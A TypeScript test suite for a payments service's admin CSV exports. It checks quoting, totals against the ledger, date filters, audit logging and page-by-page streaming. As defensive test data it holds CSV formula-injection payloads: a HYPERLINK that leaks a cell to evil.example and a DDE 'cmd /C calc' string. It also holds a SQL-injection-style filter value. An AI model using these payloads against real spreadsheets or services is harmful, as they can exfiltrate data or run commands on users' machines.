// Exports an accountant opens (issue 29): GET /admin/exports/payments.csv and ledger.csv over payments that settled,
// failed, were cancelled or still wait, parsed back by a real CSV parser (csv-parse). Totals per status, per account and
// currency match the database and the balances `ledger verify` proves; filters are half-open and exact; formula cells
// are neutralised; bad filters are 400 INVALID_FILTER; each export is in the audit log; pages are read one at a time.
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMerchant } from '../../src/core/merchants/merchants.js';
import { openExport } from '../../src/core/exports/stream.js';
import { verifyLedger } from '../../src/ledger/verify.js';
import { decimalsOf } from '../../src/ledger/currencies.js';
import { parseUnits } from '../../src/money.js';
import { createPayment, createTestContext, ETH_ADDRESS, SOL_ADDRESS, type TestContext } from '../helpers/context.js';
import { TEST_ACTOR, testAudit } from '../helpers/audit.js';
import { insertBulkPayments } from '../helpers/bulk.js';
import { confirm, drainExecution } from '../helpers/workers.js';

let t: TestContext;
const EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice"), Inc';
let evilMerchant: string;
/** Payments by role in the story, oldest first. */
const ids = { settledSol: '', settledEth: '', evil: '', rejected: '', cancelled: '', waiting: '' };
const createdAt = new Map<string, string>();

type Row = Record<string, string>;
const rowsOf = (body: string): Row[] => parse(body, { columns: true, record_delimiter: ['\r\n'] }) as Row[];
const get = (url: string) => t.app.inject({ method: 'GET', url });
async function csv(url: string): Promise<Row[]> {
  const res = await get(url);
  expect(res.statusCode, res.body).toBe(200);
  return rowsOf(res.body);
}
/** A signed decimal string in units of 10^-decimals, exactly. */
const units = (text: string, decimals: number): bigint => (text.startsWith('-') ? -parseUnits(text.slice(1), decimals) : parseUnits(text, decimals));

async function paymentAs(apiKey: string, amountUsd: number, destination: object, idempotencyKey: string): Promise<string> {
  const quote = await t.app.inject({ method: 'POST', url: '/quotes', headers: { 'x-api-key': apiKey }, payload: { amount_usd: amountUsd, destination, priority: 'fast' } });
  expect(quote.statusCode, quote.body).toBe(201);
  const created = await t.app.inject({
    method: 'POST',
    url: '/payment_intents',
    headers: { 'x-api-key': apiKey },
    payload: { quote_id: quote.json().quote_id, idempotency_key: idempotencyKey },
  });
  expect(created.statusCode, created.body).toBe(201);
  return created.json().payment_intent_id;
}

beforeAll(async () => {
  t = await createTestContext({ SIM_TREASURY_USDC: '100000', POLICY_APPROVAL_ABOVE_USD: '1000' });
  const evil = await createMerchant(t.db.pool, t.ctx.config, { name: EVIL_NAME, webhookUrl: null }, t.clock.now(), testAudit());
  evilMerchant = evil.merchant.id;
  ids.settledSol = await createPayment(t.app, 12.345678, { solana_address: SOL_ADDRESS });
  t.clock.advance(1000);
  ids.settledEth = await createPayment(t.app, 20, { ethereum_address: ETH_ADDRESS });
  t.clock.advance(1000);
  ids.evil = await paymentAs(evil.apiKey, 7.5, { solana_address: SOL_ADDRESS }, '@SUM(1+1)*cmd|" /C calc"!A0');
  await drainExecution(t);
  for (let round = 0; round < 4; round++) {
    t.clock.advance(60_000);
    await confirm(t);
  }
  t.clock.advance(1000);
  ids.rejected = await createPayment(t.app, 1500, { solana_address: SOL_ADDRESS }, '-1+2');
  expect((await t.app.inject({ method: 'POST', url: `/admin/payment_intents/${ids.rejected}/reject` })).statusCode).toBe(200);
  t.clock.advance(1000);
  ids.cancelled = await createPayment(t.app, 3, { ethereum_address: ETH_ADDRESS });
  expect((await t.app.inject({ method: 'POST', url: `/admin/payments/${ids.cancelled}/cancel` })).statusCode).toBe(200);
  t.clock.advance(1000);
  ids.waiting = await createPayment(t.app, 4, { solana_address: SOL_ADDRESS });
  const { rows } = await t.db.pool.query<{ id: string; at: string }>(
    `SELECT id, to_char(created_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') AS at FROM payment_intents`,
  );
  for (const row of rows) createdAt.set(row.id, row.at);
});
afterAll(async () => t.close());

describe('GET /admin/exports/payments.csv', () => {
  it('is RFC 4180 CSV with a header row, one row per payment, CRLF line ends, UTC times and exact amounts', async () => {
    const res = await get('/admin/exports/payments.csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toBe('attachment; filename="stableroute-payments.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.body.endsWith('\r\n')).toBe(true);
    expect(res.body.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(res.body.split('\r\n')[0]).toBe(
      'payment_id,kind,merchant_id,merchant_name,chain,destination_address,amount_usdc,status,failure_reason,created_at,settled_at,updated_at,tx_id,fee,fee_currency,quote_id,idempotency_key,token',
    );
    const rows = rowsOf(res.body);
    expect(rows.map((r) => r.payment_id)).toEqual(Object.values(ids));
    const byId = new Map(rows.map((r) => [r.payment_id!, r]));
    const sol = byId.get(ids.settledSol)!;
    const attempt = (await t.db.pool.query("SELECT tx_id, actual_fee_native::text AS fee FROM payment_attempts WHERE payment_intent_id = $1 AND status = 'confirmed'", [ids.settledSol])).rows[0];
    expect(sol).toMatchObject({ kind: 'payout', merchant_id: 'mer_test', chain: 'solana', amount_usdc: '12.345678', status: 'settled', failure_reason: '', tx_id: attempt.tx_id, fee_currency: 'SOL' });
    expect(units(sol.fee!, 9)).toBe(BigInt(attempt.fee));
    expect(units(sol.fee!, 9)).toBeGreaterThan(0n);
    expect(sol.created_at).toBe('2026-03-01T12:00:00.000000Z');
    expect(sol.settled_at).toMatch(/^2026-03-01T12:0\d:\d{2}\.\d{6}Z$/);
    expect(byId.get(ids.settledEth)).toMatchObject({ chain: 'ethereum', amount_usdc: '20', status: 'settled', fee_currency: 'ETH' });
    expect(byId.get(ids.rejected)).toMatchObject({ amount_usdc: '1500', status: 'failed', failure_reason: 'approval_rejected', settled_at: '', tx_id: '', fee: '0' });
    expect(byId.get(ids.cancelled)).toMatchObject({ status: 'cancelled', failure_reason: '', tx_id: '' });
    expect(byId.get(ids.waiting)).toMatchObject({ status: 'route_selected', settled_at: '' });
  });

  it('adds up per status to what the database holds, and its fees to the network_fees account', async () => {
    const rows = await csv('/admin/exports/payments.csv');
    const perStatus = new Map<string, bigint>();
    for (const r of rows) perStatus.set(r.status!, (perStatus.get(r.status!) ?? 0n) + parseUnits(r.amount_usdc!, 6));
    const { rows: expected } = await t.db.pool.query<{ status: string; total: string }>('SELECT status, SUM(amount_micros)::text AS total FROM payment_intents GROUP BY status');
    expect(perStatus).toEqual(new Map(expected.map((e) => [e.status, BigInt(e.total)])));

    const fees = new Map<string, bigint>();
    for (const r of rows) fees.set(r.fee_currency!, (fees.get(r.fee_currency!) ?? 0n) + units(r.fee!, decimalsOf(r.chain!, r.fee_currency!)));
    const { rows: booked } = await t.db.pool.query<{ currency: string; total: string }>(
      "SELECT currency, SUM(balance)::text AS total FROM ledger_accounts WHERE kind = 'network_fees' GROUP BY currency",
    );
    expect(booked.length).toBe(2);
    for (const b of booked) expect(fees.get(b.currency), b.currency).toBe(BigInt(b.total));
  });

  it('filters by a half-open period [from, to), chain, merchant and status', async () => {
    const idsOf = async (query: string) => (await csv(`/admin/exports/payments.csv?${query}`)).map((r) => r.payment_id);
    const from = encodeURIComponent(createdAt.get(ids.settledEth)!);
    const to = encodeURIComponent(createdAt.get(ids.rejected)!);
    expect(await idsOf(`from=${from}&to=${to}`)).toEqual([ids.settledEth, ids.evil]);
    expect(await idsOf(`from=${encodeURIComponent('2026-03-01T14:00:01+02:00')}`)).toEqual([ids.settledEth, ids.evil, ids.rejected, ids.cancelled, ids.waiting].filter((id) => createdAt.get(id)! >= '2026-03-01T12:00:01'));
    expect(await idsOf('from=2026-03-01&to=2026-03-02')).toEqual(Object.values(ids));
    expect(await idsOf('to=2026-03-01')).toEqual([]);
    expect(await idsOf('chain=ethereum')).toEqual([ids.settledEth, ids.cancelled]);
    expect(await idsOf(`merchant_id=${evilMerchant}`)).toEqual([ids.evil]);
    expect(await idsOf('status=failed')).toEqual([ids.rejected]);
    expect(await idsOf('status=settled&chain=solana')).toEqual([ids.settledSol, ids.evil]);
  });

  it('neutralises cells a spreadsheet would run as formulas, and quotes what RFC 4180 requires', async () => {
    const res = await get(`/admin/exports/payments.csv?merchant_id=${evilMerchant}`);
    // The name holds quotes and a comma: quoted, its quotes doubled, after the neutralising quote.
    expect(res.body).toContain('"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Invoice""), Inc"');
    const [row] = rowsOf(res.body);
    expect(row!.merchant_name).toBe(`'${EVIL_NAME}`);
    expect(row!.idempotency_key).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    const rejected = (await csv('/admin/exports/payments.csv?status=failed'))[0]!;
    expect(rejected.idempotency_key).toBe("'-1+2");
  });
});

describe('GET /admin/exports/ledger.csv', () => {
  it('has one row per posting, and its totals per account and currency are the balances ledger verify proves', async () => {
    const rows = await csv('/admin/exports/ledger.csv');
    expect(Object.keys(rows[0]!)).toEqual(['posting_id', 'transaction_id', 'created_at', 'type', 'chain', 'account', 'currency', 'amount', 'payment_id', 'payment_kind', 'merchant_id', 'payment_status', 'token']);
    expect(rows.length).toBe((await t.db.pool.query('SELECT COUNT(*)::int AS n FROM ledger_postings')).rows[0].n);
    const report = await verifyLedger(t.db.pool);
    expect(report.problems).toEqual([]);
    expect(rows.length).toBe(report.postings);
    expect(new Set(rows.map((r) => r.transaction_id)).size).toBe(report.transactions);

    const totals = new Map<string, bigint>();
    const perTransaction = new Map<string, bigint>();
    for (const r of rows) {
      const amount = units(r.amount!, decimalsOf(r.chain!, r.currency!));
      totals.set(`${r.chain} ${r.account} ${r.currency}`, (totals.get(`${r.chain} ${r.account} ${r.currency}`) ?? 0n) + amount);
      perTransaction.set(`${r.transaction_id} ${r.currency}`, (perTransaction.get(`${r.transaction_id} ${r.currency}`) ?? 0n) + amount);
    }
    const { rows: balances } = await t.db.pool.query<{ key: string; balance: string }>(
      "SELECT chain || ' ' || kind || ' ' || currency AS key, SUM(balance)::text AS balance FROM ledger_accounts GROUP BY chain, kind, currency",
    );
    expect(totals).toEqual(new Map(balances.map((b) => [b.key, BigInt(b.balance)])));
    expect([...perTransaction.values()].every((sum) => sum === 0n)).toBe(true);
    // Debits stay numbers a spreadsheet adds up: never neutralised.
    expect(rows.find((r) => r.payment_id === ids.settledSol && r.type === 'reserve' && r.account === 'treasury_available')!.amount).toBe('-12.345678');
  });

  it('filters postings by the time of their ledger transaction, their chain, and their payment`s merchant and status', async () => {
    const all = await csv('/admin/exports/ledger.csv');
    const from = createdAt.get(ids.rejected)!;
    const inPeriod = await csv(`/admin/exports/ledger.csv?from=${encodeURIComponent(from)}&to=2026-03-02`);
    expect(inPeriod).toEqual(all.filter((r) => r.created_at! >= from));
    expect(inPeriod.length).toBeGreaterThan(0);
    expect(inPeriod.length).toBeLessThan(all.length);
    expect(await csv('/admin/exports/ledger.csv?chain=ethereum')).toEqual(all.filter((r) => r.chain === 'ethereum'));
    const evil = await csv(`/admin/exports/ledger.csv?merchant_id=${evilMerchant}`);
    expect(new Set(evil.map((r) => r.payment_id))).toEqual(new Set([ids.evil]));
    expect(evil.map((r) => r.type)).toEqual(['reserve', 'reserve', 'debit', 'debit', 'settle', 'settle', 'fee', 'fee']);
    const failed = await csv('/admin/exports/ledger.csv?status=failed');
    expect(failed).toEqual(all.filter((r) => r.payment_status === 'failed'));
    expect(failed.map((r) => r.type)).toEqual(['reserve', 'reserve', 'release', 'release']);
    // Funding has no payment: a status or merchant filter leaves it out, no filter keeps it.
    expect(all.some((r) => r.type === 'funding' && r.payment_id === '')).toBe(true);
  });
});

describe('refusals and the audit log', () => {
  it('answers a bad filter with 400 INVALID_FILTER in the error body, and exports nothing', async () => {
    for (const query of [
      'from=yesterday',
      'from=2026-02-30',
      'from=2026-03-01T12:00:00',
      'from=2026-03-01T24:00:00Z',
      'from=2026-03-01T12:00:00.1234567Z',
      'to=2026-03-01T12:00:00%2B25:00',
      'from=2026-03-02&to=2026-03-01',
      'from=2026-03-01&to=2026-03-01',
      'chain=bitcoin',
      'status=lost',
      'merchant_id=mer%27%20OR%201%3D1',
      'form=2026-03-01',
      'status=settled&status=failed',
    ]) {
      for (const kind of ['payments', 'ledger']) {
        const res = await get(`/admin/exports/${kind}.csv?${query}`);
        expect(res.statusCode, `${kind} ${query}`).toBe(400);
        expect(res.json(), `${kind} ${query}`).toMatchObject({ statusCode: 400, error: 'Bad Request', code: 'INVALID_FILTER' });
      }
    }
  });

  it('records who exported what, with the filters, in the audit log', async () => {
    await csv(`/admin/exports/ledger.csv?from=2026-03-01&merchant_id=${evilMerchant}&status=settled`);
    const { rows } = await t.db.pool.query('SELECT action, targets, details, outcome FROM audit_log ORDER BY seq DESC LIMIT 1');
    expect(rows[0]).toEqual({
      action: 'export.ledger',
      targets: [evilMerchant],
      details: { from: '2026-03-01T00:00:00Z', to: null, chain: null, merchant_id: evilMerchant, status: 'settled' },
      outcome: 'ok',
    });
  });
});

describe('streaming', () => {
  it('reads one page per chunk, each when the one before was taken, and page boundaries change no byte', async () => {
    const whole = async (kind: 'payments' | 'ledger', pageSize?: number) => {
      const exported = await openExport(t.ctx, { kind, filter: {}, actor: TEST_ACTOR }, pageSize === undefined ? {} : { pageSize });
      const chunks: string[] = [];
      for await (const chunk of exported.chunks) chunks.push(chunk);
      return chunks;
    };
    for (const kind of ['payments', 'ledger'] as const) {
      const reference = (await whole(kind)).join('');
      for (const pageSize of [1, 2, 3, 5]) expect((await whole(kind, pageSize)).join(''), `${kind} pages of ${pageSize}`).toBe(reference);
    }
    // Six payments in pages of two: three chunks (the header rides with the first page).
    expect((await whole('payments', 2)).map((c) => c.split('\r\n').length - 1)).toEqual([3, 2, 2]);

    // The second page is read only when asked for: a payment created after the first chunk was taken is in it.
    const exported = await openExport(t.ctx, { kind: 'payments', filter: { from: '2026-03-01' }, actor: TEST_ACTOR }, { pageSize: 4 });
    const first = await exported.chunks.next();
    t.clock.advance(1000);
    const late = await createPayment(t.app, 5, { solana_address: SOL_ADDRESS });
    let rest = '';
    for await (const chunk of exported.chunks) rest += chunk;
    expect(rowsOf(`${first.value as string}${rest}`).map((r) => r.payment_id)).toEqual([...Object.values(ids), late]);
  });

  it('streams an export of several default pages over HTTP in order, without a row lost or repeated at a boundary', async () => {
    // 2,500 payments of one merchant, seven to each instant, so that ties on created_at straddle page boundaries.
    await insertBulkPayments(t.db.pool, 'mer_bulk', 2500, { startIso: '2026-03-01T13:00:00Z', stepMs: 1, tiesPerInstant: 7 });
    const rows = await csv('/admin/exports/payments.csv?merchant_id=mer_bulk');
    const expected = (
      await t.db.pool.query<{ id: string }>("SELECT id FROM payment_intents WHERE merchant_id = 'mer_bulk' ORDER BY created_at, id")
    ).rows.map((r) => r.id);
    expect(rows.length).toBe(2500);
    expect(rows.map((r) => r.payment_id)).toEqual(expected);
    expect(rows.reduce((sum, r) => sum + parseUnits(r.amount_usdc!, 6), 0n)).toBe((2500n * 2501n) / 2n);
  });
});
